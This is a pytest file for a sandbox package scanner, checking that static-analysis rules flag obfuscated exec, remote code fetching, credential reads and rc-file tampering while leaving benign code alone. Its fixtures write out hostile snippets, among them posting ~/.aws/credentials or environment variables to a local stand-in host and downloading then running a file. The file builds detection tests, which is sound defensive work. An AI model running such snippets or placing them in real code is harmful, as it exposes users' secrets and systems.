"""Our AST rules on small snippets: what they must catch and what they must leave alone."""

from __future__ import annotations

import asyncio
import textwrap

import pytest

from sandbox.scanner import UnusableInput, scan_async
from sandbox.scanner.code_rules import check_source
from sandbox.scanner.typosquat import lookalike
from tests.scanner.builders import SAMPLES


def rules(source: str, file: str = "pkg/mod.py") -> set[str]:
    result = check_source(textwrap.dedent(source), file, is_setup=file == "setup.py")
    assert result is not None
    return {f.rule_id for f in result.findings}


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("import marshal\nexec(marshal.loads(blob))", "TD101"),
        ("import codecs\nx = codecs.decode('cevag(1)', 'rot13')\neval(x)", "TD101"),
        ("code = ''.join(chr(c) for c in [112, 114])\nexec(code)", "TD101"),
        ("import importlib\nm = importlib.import_module('o' + 's')", "TD102"),
        ("f = __builtins__['exec']", "TD103"),
        ("g = globals()['__builtins__']", "TD103"),
        ("import requests\nexec(requests.get('http://127.0.0.1:9').text)", "TD104"),
        (
            "import os, urllib.request, subprocess\n"
            "urllib.request.urlretrieve('http://127.0.0.1:9/x', '/tmp/x')\nsubprocess.call(['/tmp/x'])",
            "TD104",
        ),
        (
            "import os, socket\ns = socket.create_connection(('127.0.0.1', 9))\ns.send(str(os.environ).encode())",
            "TD105",
        ),
        (
            "import os, requests\n"
            "requests.post('http://127.0.0.1:9', data=open(os.path.expanduser('~/.aws/credentials')).read())",
            "TD105",
        ),
        ("p = open('/home/u/.ssh/id_rsa').read()", "TD106"),
        ("import pathlib\n(pathlib.Path.home() / '.bashrc').write_text('alias ls=true')", "TD110"),
        ("import os\nos.system('echo x >> ~/.zshrc')", "TD110"),
        ("import subprocess\nsubprocess.Popen(['true'])", "TD111"),
        ("import os\nif True:\n    pid = os.fork()", "TD111"),
        ("from cffi import FFI\nFFI().dlopen(None)", "TD112"),
    ],
)
def test_rule_catches(source: str, rule: str):
    assert rule in rules(source)


def test_setup_py_commands_at_install_time():
    source = "import os\nfrom setuptools import setup\nos.system('true')\nsetup(name='x')\n"
    assert "TD107" in rules(source, "setup.py")
    assert "TD107" not in rules("from setuptools import setup\nsetup(name='x', packages=['x'])\n", "setup.py")


@pytest.mark.parametrize(
    "source",
    [
        "import base64\ndata = base64.b64decode(token)\nprint(data)",
        "import os\nlevel = os.environ.get('LOG_LEVEL', 'info')",
        "import importlib\nmodule = importlib.import_module('json')",
        "import builtins\nbuiltins.print('hi')",
        "import threading\ndef start():\n    threading.Thread(target=print).start()",
        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['true'])",
        "with open('out.txt', 'w') as fh:\n    fh.write('x')",
        "import os\npath = os.path.expanduser('~/notes.txt')\nprint(open(path).read())",
        "import json, socket\nhost = socket.gethostname()\nprint(json.dumps({'host': host}))",
        "exec('x = 1')",
    ],
)
def test_rule_leaves_ordinary_code_alone(source: str):
    assert not {r for r in rules(source) if r.startswith("TD1")}, source


def test_typosquat_lookalikes():
    assert lookalike("reqeusts") == "requests"
    assert lookalike("python_dateutil") is None  # a popular name itself
    assert lookalike("numpyy") == "numpy"
    assert lookalike("sticky-notes") is None and lookalike("kanban-panel") is None
    assert lookalike("six") is None  # too short to tell


def test_unparsable_code_is_a_finding(tmp_path):
    from sandbox.scanner import scan

    package = tmp_path / "p"
    package.mkdir()
    (package / "broken.py").write_text("def (:\n")
    result = scan([tmp_path]).targets[0]
    assert "TD114" in {f.rule_id for f in result.findings}


def test_scan_async_runs_in_a_worker_process(tmp_path):
    async def main() -> tuple[dict, float]:
        ticks = 0

        async def ticker() -> None:
            nonlocal ticks
            while True:
                await asyncio.sleep(0)  # any tick proves the loop ran while the scan did
                ticks += 1

        task = asyncio.create_task(ticker())
        report = await scan_async(SAMPLES / "malicious" / "reverse_shell")
        task.cancel()
        with pytest.raises(UnusableInput):
            await scan_async(tmp_path / "missing.whl")
        return report, ticks

    report, ticks = asyncio.run(main())
    assert report["verdict"] == "fail"
    assert "TD109" in {f["rule_id"] for f in report["targets"][0]["findings"]}
    assert ticks > 0


def test_scan_async_gives_up_after_its_time_limit():
    async def main() -> None:
        with pytest.raises(TimeoutError):
            await scan_async(SAMPLES / "benign" / "velocity_tool", limit_seconds=0.001)
        report = await scan_async(SAMPLES / "benign" / "velocity_tool")  # a fresh worker takes over
        assert report["verdict"] == "pass"

    asyncio.run(main())
